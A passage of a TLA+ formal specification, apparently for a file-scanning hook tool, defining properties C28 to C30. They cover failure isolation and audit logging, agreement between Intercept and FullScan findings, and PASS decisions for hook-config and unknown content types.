\* when the append to the audit log succeeds and none when it fails.
C28_FileErrorIsolatedAuditIfWritable ==
    ScanWithFailure =>
        /\ FailureIsolated
        /\ IF AuditSucceeds(loadConfig(configFile), logWritable)
           THEN OneScanEntry
           ELSE proc.out.log = proc.logBefore

\* C28: a FullScan of all protected directories met an unreadable file and a
\* file whose scan throws, and reported findings of later files
C28_Witness ==
    /\ ScanWithFailure
    /\ proc.targetDir = NoDir
    /\ \E i \in 1..Len(Candidates) : ~Candidates[i].readable
    /\ \E i \in 1..Len(Candidates) : Candidates[i].readable /\ FileFails(Candidates[i])
    /\ proc.out.allFindings # <<>>
    /\ OneScanEntry

\* what an Intercept call on the file would do with the content the file has
InterceptOf(f) ==
    runHookMode(ObjectEvent(InRoot(f.segs), f.content, Absent), configFile,
                logWritable, proc.logBefore, 1)

\* a readable file under a protected top-level directory of the root, outside
\* node_modules and .git, that is no file of the scanner itself
ComparedFile(f) ==
    /\ f.readable
    /\ \E d \in 1..Len(PROTECTED_DIRS) :
          /\ Head(f.segs) = PROTECTED_DIRS[d]
          /\ ~InSkippedDir(<<PROTECTED_DIRS[d]>>, f.segs)
    /\ ~IsSelfPath(InRoot(f.segs))

\* the findings the run reports for the file
ReportedFor(segs) ==
    SelectSeq(proc.out.allFindings, LAMBDA x : x.file = segs)

\* a FullScan of all protected areas that was not rejected
IsScanOfAll == IsScan /\ proc.targetDir = NoDir /\ ~proc.out.rejected

\* the FullScan scanned the file and reports for it what Intercept found
AgreesOn(f) ==
    /\ \E i \in 1..Len(proc.out.scannedFiles) : proc.out.scannedFiles[i] = f.segs
    /\ ReportedFor(f.segs) = Tagged(InterceptOf(f).findings, f.segs)

\* C29 as stated: every file under a protected top-level directory that
\* Intercept classifies into a known category and scans (no scanner file, not
\* in a version-control or dependency-cache directory) is scanned by a FullScan
\* of all protected areas too, with the same findings for the same content.
C29_InterceptAndFullScanAgree ==
    IsScanOfAll =>
        \A i \in 1..Len(FileSystem) :
            LET f == FileSystem[i]
            IN (/\ ComparedFile(f)
                /\ InterceptOf(f).scanned
                /\ ~InterceptOf(f).error
                /\ InterceptOf(f).contentType # "unknown") => AgreesOn(f)

\* C29 for the files whose extension is written in lower case
C29_AgreeOnLowerCaseExt ==
    IsScanOfAll =>
        \A i \in 1..Len(FileSystem) :
            LET f == FileSystem[i]
            IN (/\ ComparedFile(f)
                /\ HasScannedExt(f.segs)
                /\ InterceptOf(f).scanned
                /\ ~InterceptOf(f).error
                /\ InterceptOf(f).contentType # "unknown") => AgreesOn(f)

\* C29: a FullScan reported findings for a file Intercept finds the same in
C29_AgreeCase ==
    /\ IsScanOfAll
    /\ \E i \in 1..Len(FileSystem) :
          /\ ComparedFile(FileSystem[i])
          /\ InterceptOf(FileSystem[i]).scanned
          /\ InterceptOf(FileSystem[i]).findings # <<>>
          /\ AgreesOn(FileSystem[i])

\* an Intercept call reached the scan with a path of this category
InterceptScanned(type) ==
    /\ IsHook
    /\ proc.out.scanned
    /\ proc.out.contentType = type

\* the write is allowed with decision PASS: nothing found, the event re-emitted
AllowedWithPass ==
    /\ proc.out.findings = <<>>
    /\ proc.out.action = "PASS"
    /\ proc.out.reemitted
    /\ proc.out.exit = 0

\* C30 as stated: an Intercept call on a protected path that classifies as
\* hook-configuration or as unrecognized always allows the write with
\* decision PASS, whatever the content.
C30_NoRuleCategoriesPass ==
    (InterceptScanned("hook-config") \/ InterceptScanned("unknown")) => AllowedWithPass

\* C30 for the calls that run under a policy record: the configuration file
\* is missing, unparsable, or holds an object
C30_PassUnderPolicyRecord ==
    (/\ InterceptScanned("hook-config") \/ InterceptScanned("unknown")
     /\ ~IsNull(loadConfig(configFile))) => AllowedWithPass

\* C30, the scan alone: no finding for the two categories, whatever the
\* content and the policy
C30_NoFindingsWithoutRules ==
    (scanOut.done /\ scanIn.contentType \in {"hook-config", "unknown"})
        => (~scanOut.threw /\ scanOut.findings = <<>>)

====
